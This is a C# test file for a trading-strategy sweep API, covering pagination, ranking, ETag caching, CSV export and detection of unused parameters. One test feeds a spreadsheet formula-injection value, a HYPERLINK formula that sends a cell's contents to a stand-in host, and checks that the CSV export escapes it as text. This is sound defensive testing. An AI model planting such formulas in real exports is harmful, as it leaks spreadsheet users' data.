using System.Net;
using System.Net.Http.Headers;
using System.Text.Json;
using Xunit;

namespace Sentinel.Api.Tests.Sweeps;

[Collection(SharedApp.Name)]
public sealed class GetSweepTests(SentinelApp app)
{
    private readonly HttpClient http = app.CreateClient();

    [Fact]
    public async Task Pages_follow_each_other_through_all_points()
    {
        var sweep = await http.Sweep(SweepRequests.Of("pages"));
        var expected = Indices(sweep);

        var first = await http.GetJson($"/v1/sweeps/{sweep.Id()}?limit=4");
        var second = await http.GetJson(first.Text("next"));

        Assert.Equal(expected, Indices(first).Concat(Indices(second)));
        Assert.Equal([5, 6], second.GetProperty("best").EnumerateArray().Select(point => point.GetProperty("rank").GetInt32()));
        Assert.Equal(JsonValueKind.Null, second.GetProperty("next").ValueKind);
    }

    [Fact]
    public async Task Points_are_ranked_by_any_metric_and_by_their_neighbours()
    {
        var sweep = await http.Sweep(SweepRequests.Of("metrics"));

        var calm = await http.GetJson($"/v1/sweeps/{sweep.Id()}?rank_by=volatility");
        var plateaus = await http.GetJson(sweep.GetProperty("links").Text("plateaus"));

        var volatilities = calm.GetProperty("best").EnumerateArray().Select(point => point.GetProperty("value").GetDouble()).ToList();
        var worse = plateaus.GetProperty("best").EnumerateArray()
            .Select(point => Math.Min(point.GetProperty("value").GetDouble(), point.GetProperty("neighbours").GetDouble())).ToList();
        Assert.Equal(("volatility", "value"), (calm.Text("rank_by"), calm.Text("by")));
        Assert.Equal(volatilities.Order(), volatilities);
        Assert.Equal(("sharpe", "neighbours"), (plateaus.Text("rank_by"), plateaus.Text("by")));
        Assert.Equal(worse.OrderDescending(), worse);
    }

    [Fact]
    public async Task A_state_that_is_known_is_not_sent_again()
    {
        var sweep = await http.Sweep(SweepRequests.Of("tag"));
        using var first = await http.GetAsync($"/v1/sweeps/{sweep.Id()}");
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/v1/sweeps/{sweep.Id()}");
        request.Headers.IfNoneMatch.Add(first.Headers.ETag!);

        using var second = await http.SendAsync(request);

        Assert.Equal((HttpStatusCode.NotModified, first.Headers.ETag), (second.StatusCode, second.Headers.ETag));
    }

    [Fact]
    public async Task All_points_come_as_a_table_when_one_is_asked_for()
    {
        const string code = "double[] GenerateSignals(Bars bars, Parameters parameters) => new double[bars.Count / (int)parameters[\"a, b\"]];";
        var sweep = await http.Sweep(SweepRequests.Of("table", code, new Dictionary<string, int[]> { ["a, b"] = [1, 2] }));
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/v1/sweeps/{sweep.Id()}");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));

        using var response = await http.SendAsync(request);
        var lines = (await response.Content.ReadAsStringAsync()).TrimEnd().Split(Environment.NewLine);

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("index,\"a, b\",reason_code,neighbours_sharpe,bars,returns,final_equity,", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("0,1,,,2160,2159,10000,0,", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("1,2,contract_violation,,,,", lines[2], StringComparison.Ordinal);
        Assert.Equal(3, lines.Length);
    }

    [Fact]
    public async Task A_name_that_a_spreadsheet_would_compute_is_text_in_the_table_and_numbers_stay_numbers()
    {
        const string name = "=HYPERLINK(\"http://x/?\"&A2)";
        const string code = "double[] GenerateSignals(Bars bars, Parameters parameters) => bars.Select(_ => 0 * parameters.Get(\"=HYPERLINK(\\\"http://x/?\\\"&A2)\", 0)).ToArray();";
        var sweep = await http.Sweep(SweepRequests.Of("formula", code, new Dictionary<string, double[]> { [name] = [-1.5, 2] }));
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/v1/sweeps/{sweep.Id()}");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));

        using var response = await http.SendAsync(request);
        var lines = (await response.Content.ReadAsStringAsync()).Split(Environment.NewLine);

        Assert.StartsWith("index,\"'=HYPERLINK(\"\"http://x/?\"\"&A2)\",reason_code,", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("0,-1.5,", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Points_with_equal_targets_are_marked_and_an_axis_that_is_never_read_is_named()
    {
        const string code = """
            double[] GenerateSignals(Bars bars, Parameters parameters)
            {
                var length = parameters.GetInt("length", 24);
                if (length < 0) return bars.Select(_ => parameters["band"]).ToArray();
                var average = bars.Close.Sma(length);
                return bars.Select((bar, i) => bar.Close > average[i] ? 1.0 : 0.0).ToArray();
            }
            """;

        var sweep = await http.Sweep(SweepRequests.Of("alike", code, new { band = new[] { 0, 1, 2 }, length = new[] { 12, 48 } }));

        Assert.Equal(["length"], Texts(sweep, "parameters_read"));
        Assert.Equal(["band"], Texts(sweep, "parameters_unread"));
        Assert.Equal("6 of 6 points completed. Parameter 'band' was sent and never read, so its value changes nothing; the code reads 'length'.", sweep.Text("message"));
        var best = sweep.GetProperty("best").EnumerateArray().ToArray();
        Assert.All(best, point => Assert.Equal(2, point.GetProperty("equal_points").GetInt32()));
        Assert.Equal(2, best.Select(point => point.Text("signal_hash")).Distinct().Count());
    }

    [Fact]
    public async Task An_axis_that_some_point_reads_is_not_without_effect()
    {
        var sweep = await http.Sweep(SweepRequests.Of("read"));

        Assert.Equal(["band", "length"], Texts(sweep, "parameters_read"));
        Assert.Empty(Texts(sweep, "parameters_unread"));
        Assert.Contains(sweep.GetProperty("best").EnumerateArray(), point => point.GetProperty("equal_points").GetInt32() == 0);
    }

    private static string[] Texts(JsonElement sweep, string list) => [.. sweep.GetProperty(list).EnumerateArray().Select(text => text.GetString()!)];

    private static int[] Indices(JsonElement sweep) =>
        [.. sweep.GetProperty("best").EnumerateArray().Select(point => point.GetProperty("index").GetInt32())];
}
